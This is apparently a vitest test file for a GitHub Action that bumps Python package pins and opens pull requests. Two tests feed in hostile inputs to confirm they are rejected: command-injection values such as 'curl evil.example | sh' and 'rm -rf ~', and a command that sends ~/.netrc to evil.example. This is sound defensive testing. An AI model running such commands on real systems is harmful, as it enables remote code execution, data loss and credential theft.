import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inspectDistribution } from '../../src/build/inspect.js';
import { DirectoryIndex } from '../../src/index/directory.js';
import { type ActionRun, ROOT, runAction } from '../support/action-run.js';
import { consumerCheckout, filesOf, git } from '../support/consumer-checkout.js';
import { useGitHubServer } from '../support/github-server.js';
import { buildWheel } from '../support/python.js';

/** bump/action.yml's entry: names the action, then runs the one bundle (dist/index.js). */
const ENTRY = join(ROOT, 'dist', 'bump.js');
/** The job's own token, which GitHub makes for each run as an App installation token. */
const TOKEN = 'ghs_JobToken0123456789abcdefghijklmnopq';
const SHA = 'e'.repeat(64);
const BRANCH = 'wheelrelay/relay-alpha';

/** What a publisher with `consumers: acme/<repo>: dispatch` sends (src/github/release-payload.ts). */
const payload = (version: string, extra: Record<string, unknown> = {}) => ({
  name: 'relay_alpha',
  version,
  'index-url': 'https://cache.example/ci/cache/+simple/',
  'project-url': 'https://cache.example/ci/cache/+simple/relay-alpha/',
  files: [{ filename: `relay_alpha-${version}-py3-none-any.whl`, sha256: SHA }],
  'source-repo': 'acme/relay-alpha',
  tag: `v${version}`,
  sha: 'c0ffee'.padEnd(40, '0'),
  ...extra,
});

describe('bump/action.yml in a consumer workflow (node dist/bump.js, as the runner runs it)', () => {
  const github = useGitHubServer({
    tokens: { [TOKEN]: { login: 'github-actions', kind: 'app' } },
  });
  const dirs: string[] = [];
  let base: Record<string, string>;
  /** relay-alpha 0.4.0 as a publisher built it, for the manual runs' directory indexes. */
  let wheel: string;

  beforeAll(async () => {
    const dir = await consumerCheckout();
    dirs.push(dir);
    base = await filesOf(dir);
    const built = await mkdtemp(join(tmpdir(), 'wr-bump-wheel-'));
    dirs.push(built);
    wheel = await buildWheel({ name: 'relay-alpha', version: '0.4.0' }, built);
  });
  afterAll(async () => {
    for (const d of dirs) await rm(d, { recursive: true, force: true });
  });

  async function bump(
    repo: string,
    event: { name: string; payload: unknown },
    inputs: Record<string, string> = {},
  ): Promise<ActionRun & { dir: string }> {
    const dir = await consumerCheckout();
    dirs.push(dir);
    const run = await runAction({
      entry: ENTRY,
      workspace: dir,
      ref: 'refs/heads/main',
      eventName: event.name,
      event: event.payload,
      env: {
        GITHUB_REPOSITORY: `acme/${repo}`,
        GITHUB_API_URL: github.apiUrl,
        GITHUB_SERVER_URL: github.serverUrl,
        WHEELRELAY_GITHUB_PACING: 'off',
      },
      inputs: {
        'requirement-files': 'requirements/edx/github.in',
        run: 'make compile-requirements',
        token: TOKEN,
        ...inputs,
      },
    });
    return { ...run, dir };
  }
  const dispatch = (p: unknown) => ({
    name: 'repository_dispatch',
    payload: { action: 'wheelrelay-release', client_payload: p },
  });

  it('a wheelrelay-release dispatch: the PR carries the bumped .in and the regenerated .txt files, in a signed commit', async () => {
    github.createRepo('acme/web', base);
    const r = await bump('web', dispatch(payload('0.4.0')));
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(r.outputs.outcome).toBe('created');
    expect(r.outputs.name).toBe('relay_alpha');
    expect(r.outputs.version).toBe('0.4.0');
    expect(JSON.parse(r.outputs['changed-files'] ?? '')).toEqual([
      'requirements/edx/base.txt',
      'requirements/edx/github.in',
      'requirements/edx/testing.txt',
    ]);
    expect(JSON.parse(r.outputs['pull-request'] ?? '')).toEqual({
      repo: 'acme/web',
      number: 1,
      url: `${github.serverUrl}/acme/web/pull/1`,
      outcome: 'created',
    });

    expect(github.file('acme/web', BRANCH, 'requirements/edx/github.in')).toContain(
      'relay-alpha==0.4.0\n',
    );
    for (const txt of ['requirements/edx/base.txt', 'requirements/edx/testing.txt']) {
      const compiled = github.file('acme/web', BRANCH, txt) ?? '';
      expect(compiled).toContain('relay-alpha==0.4.0\n');
      // The transitive dependency only the consumer's own compile finds.
      expect(compiled).toContain('relay-beta==1.0.2\n    # via relay-alpha\n');
      // The index reached the command through WHEELRELAY_INDEX_URL, from the payload.
      expect(compiled).toContain('--extra-index-url https://cache.example/ci/cache/+simple/\n');
    }
    // sign-commits defaults to true: one commit through createCommitOnBranch, which GitHub signs.
    const head = github.branch('acme/web', BRANCH);
    expect(head?.verified).toBe(true);
    expect(github.file('acme/web', 'main', 'requirements/edx/github.in')).toBe(
      base['requirements/edx/github.in'],
    );

    const [pull] = github.pulls('acme/web');
    expect(pull?.title).toBe('Bump relay_alpha to 0.4.0');
    expect(pull?.body).toContain('- relay-alpha==0.3.0\n+ relay-alpha==0.4.0');
    expect(pull?.body).toContain('#### Regenerated by `make compile-requirements`');
    expect(pull?.body).toContain('| `requirements/edx/base.txt` | 5 | 1 |');
    expect(r.summary).toContain('### wheelrelay: bump `relay_alpha` to `0.4.0`');
    expect(r.summary).toContain('Outcome: **created** · [#1]');
    expect(r.summary).toContain('#### Pin change');
    expect(r.summary).toContain('| `requirements/edx/testing.txt` |');
    expect(github.takeViolations()).toEqual([]);
  });

  it('a hostile payload changes nothing and fails naming the field', async () => {
    github.createRepo('acme/hostile', base);
    const cases: Array<[Record<string, unknown>, RegExp]> = [
      [
        { name: '--index-url' },
        /release payload's `name` is '--index-url', which is not a package name/,
      ],
      [{ name: 'relay-alpha; curl evil.example | sh' }, /`name` .* not a package name/],
      [{ version: '1.0 && rm -rf ~' }, /`version` .* not a version/],
      [{ version: '$(id)' }, /`version` .* not a version/],
      [
        { files: [{ filename: 'relay_alpha-0.4.0-py3-none-any.whl', sha256: 'not-a-hash' }] },
        /`files\[0\]\.sha256` is 'not-a-hash', not 64 lowercase hex digits/,
      ],
      [{ 'index-url': 'https://user:pw@cache.example/simple/' }, /`index-url` carries credentials/],
    ];
    for (const [bad, message] of cases) {
      const r = await bump('hostile', dispatch(payload('0.4.0', bad)));
      expect(r.exitCode, JSON.stringify(bad)).toBe(1);
      expect(r.stdout).toMatch(message);
      expect(r.stdout).toContain('nothing was changed');
      expect(r.outputs.outcome).toBe('failed');
      expect(git(r.dir, 'status', '--porcelain')).toBe('');
    }
    expect(github.branch('acme/hostile', BRANCH)).toBeUndefined();
    expect(github.pulls('acme/hostile')).toHaveLength(0);
  });

  it('a dispatch of another type, or a run with no release, fails before anything changes', async () => {
    const other = await bump('web', {
      name: 'repository_dispatch',
      payload: { action: 'deploy', client_payload: payload('0.4.0') },
    });
    expect(other.exitCode).toBe(1);
    expect(other.stdout).toContain("repository_dispatch of type 'deploy', not wheelrelay-release");
    const push = await bump('web', { name: 'push', payload: {} });
    expect(push.exitCode).toBe(1);
    expect(push.stdout).toContain('no release to bump');
    for (const r of [other, push]) expect(git(r.dir, 'status', '--porcelain')).toBe('');
  });

  it('a failing `run` leaves no commit and reports the last lines the command printed', async () => {
    github.createRepo('acme/failing', base);
    const r = await bump('failing', dispatch(payload('0.4.0')), {
      run: `python3 -c "import sys; print('Could not find a version that matches relay-beta>=9'); sys.exit(2)"`,
    });
    expect(r.exitCode).toBe(1);
    expect(r.outputs.outcome).toBe('failed');
    expect(r.stdout).toMatch(/::error::.*exited 2; nothing was committed/);
    expect(r.stdout).toContain('Could not find a version that matches relay-beta>=9');
    expect(github.branch('acme/failing', BRANCH)).toBeUndefined();
    expect(github.pulls('acme/failing')).toHaveLength(0);
  });

  it('shell syntax in `run` is refused before the pins move', async () => {
    const r = await bump('web', dispatch(payload('0.5.0')), {
      run: 'make compile-requirements && curl -d @$HOME/.netrc https://evil.example',
    });
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toMatch(/input `run` .* has the operator '&&'/);
    expect(git(r.dir, 'status', '--porcelain')).toBe('');
  });

  it('dry-run makes no GitHub request: the changes stay in the checkout and the diff is printed', async () => {
    github.resetCounts();
    const r = await bump(
      'web',
      { name: 'workflow_dispatch', payload: { inputs: { release: 'relay-alpha==0.5.0' } } },
      { 'dry-run': 'true', token: '' },
    );
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(github.count({})).toBe(0);
    expect(r.outputs.outcome).toBe('changed');
    expect(r.outputs['pull-request']).toBe('{}');
    expect(r.stdout).toContain('+++ b/requirements/edx/base.txt');
    expect(r.stdout).toContain('+relay-alpha==0.5.0');
    expect(r.summary).toContain('(dry run, nothing sent to GitHub)');
    expect(r.summary).toContain('```diff');
    expect(git(r.dir, 'status', '--porcelain')).toBe(
      [
        ' M requirements/edx/base.txt',
        ' M requirements/edx/github.in',
        ' M requirements/edx/testing.txt',
        '',
      ].join('\n'),
    );
  });

  it('a manual run (workflow_dispatch, release: name==version) reads the files and their sha256 from `index-url`', async () => {
    // The index holds relay-alpha 0.4.0 as a publisher put it there (a directory index).
    const work = await mkdtemp(join(tmpdir(), 'wr-bump-index-'));
    dirs.push(work);
    const dist = await inspectDistribution(wheel);
    const root = join(work, 'index');
    expect((await new DirectoryIndex(root).store(dist)).outcome).toBe('stored');
    const [listed] = (await new DirectoryIndex(root).listProject('relay-alpha')) ?? [];
    expect(listed?.sha256).toMatch(/^[0-9a-f]{64}$/);
    const simple = `${pathToFileURL(join(root, 'simple')).toString()}/`;

    // A pin with hashes can move only with the release's files: the look-up gives them.
    const hashed = `relay-alpha==0.3.0 --hash=sha256:${'0'.repeat(64)}\n`;
    const repo = 'hashed';
    github.createRepo(`acme/${repo}`, { ...base, 'constraints.txt': hashed });
    const dir = await consumerCheckout();
    dirs.push(dir);
    await writeFile(join(dir, 'constraints.txt'), hashed);
    git(dir, 'add', 'constraints.txt');
    git(dir, '-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'hashes');
    const r = await runAction({
      entry: ENTRY,
      workspace: dir,
      ref: 'refs/heads/main',
      eventName: 'workflow_dispatch',
      event: { inputs: { release: 'relay-alpha==0.4.0' } },
      env: {
        GITHUB_REPOSITORY: `acme/${repo}`,
        GITHUB_API_URL: github.apiUrl,
        GITHUB_SERVER_URL: github.serverUrl,
        WHEELRELAY_GITHUB_PACING: 'off',
      },
      inputs: {
        'requirement-files': 'constraints.txt\nrequirements/edx/github.in',
        'index-url': simple,
        token: TOKEN,
        'sign-commits': 'false',
      },
    });
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('relay_alpha-0.4.0-py3-none-any.whl');
    expect(r.outputs.outcome).toBe('created');
    expect(github.file(`acme/${repo}`, BRANCH, 'constraints.txt')).toBe(
      `relay-alpha==0.4.0 --hash=sha256:${listed?.sha256}\n`,
    );
    expect(github.file(`acme/${repo}`, BRANCH, 'requirements/edx/github.in')).toContain(
      'relay-alpha==0.4.0\n',
    );
    // Without `run`, the compiled files are left as they were.
    expect(github.file(`acme/${repo}`, BRANCH, 'requirements/edx/base.txt')).toBe(
      base['requirements/edx/base.txt'],
    );
  });

  it('a manual run of a version the index does not list fails before anything changes', async () => {
    const work = await mkdtemp(join(tmpdir(), 'wr-bump-index-'));
    dirs.push(work);
    const root = join(work, 'index');
    await new DirectoryIndex(root).store(await inspectDistribution(wheel));
    const r = await bump(
      'web',
      { name: 'workflow_dispatch', payload: { inputs: { release: 'relay-alpha==0.9.0' } } },
      { 'index-url': `${pathToFileURL(join(root, 'simple')).toString()}/` },
    );
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toMatch(/lists no file of relay-alpha 0\.9\.0/);
    expect(git(r.dir, 'status', '--porcelain')).toBe('');
  });
});
